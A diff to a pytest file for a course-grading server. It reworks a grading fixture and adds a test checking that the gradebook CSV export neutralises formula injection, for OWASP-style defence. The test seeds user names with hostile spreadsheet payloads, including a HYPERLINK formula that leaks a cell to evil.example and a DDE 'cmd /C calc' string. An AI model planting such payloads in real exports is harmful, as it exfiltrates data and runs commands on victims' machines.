@@ -8,7 +8,7 @@ from pathlib import Path
 import pytest
 from sqlalchemy import select
 
-from helpers import REFERENCE_Q, dispatcher, grade
+from helpers import REFERENCE_Q, dispatcher, grade, grade_next
 from server.models import Exercise, Submission, User
 from server.submissions import Rules, accept, reopen
 from server.users import add_user
@@ -43,8 +43,9 @@ def graded_course(course, executor, catalogue):
         session.commit()
         ids = [submission.id for submission in submissions]
         session.close()
-        for submission_id in ids:
-            assert grade(database, executor, catalogue, submission_id) == "graded"
+        # the queue takes them round-robin between students, not in this order
+        outcomes = [grade_next(database, executor, catalogue) for _ in ids]
+        assert sorted(outcomes) == [(i, "graded") for i in ids]
     return course, ids
 
 
@@ -204,3 +205,20 @@ def test_stopped_grading_is_no_grade_and_uses_no_attempt(graded_course, executor
     row = next(e for e in api.get("/api/v1/exercises", headers=bearer).json["exercises"]
                if e["slug"] == "autograd-q")
     assert row["attempts_used"] == 2
+
+
+def test_gradebook_csv_cells_never_run_as_formulas(graded_course):
+    """OWASP's CSV injection: a name a spreadsheet would run (=HYPERLINK…) is written as text."""
+    app, _ = graded_course
+    hostile = {"eve": '=HYPERLINK("http://evil.example/?"&A1,"grades")', "fay": "+1+cmd|' /C calc'!A0",
+               "gus": "-2+3", "hal": "@SUM(1+1)", "ida": "\tTab", "joe": "\rReturn"}
+    with app.app_context():
+        session = app.extensions["hpcgrade.db"].sessions()
+        session.add_all(User(username=username, name=name, email=f"{username}@uni.es",
+                             password_hash="x") for username, name in hostile.items())
+        session.commit()
+    client, _ = logged_in(app, "prof")
+    rows = {row[0]: row for row in csv.reader(io.StringIO(client.get("/staff/grades.csv").text))}
+    assert {username: rows[username][1] for username in hostile} == \
+        {username: "'" + name for username, name in hostile.items()}
+    assert rows["ana"][1] == "Ana García" and rows["bea"][1] == "Bea"
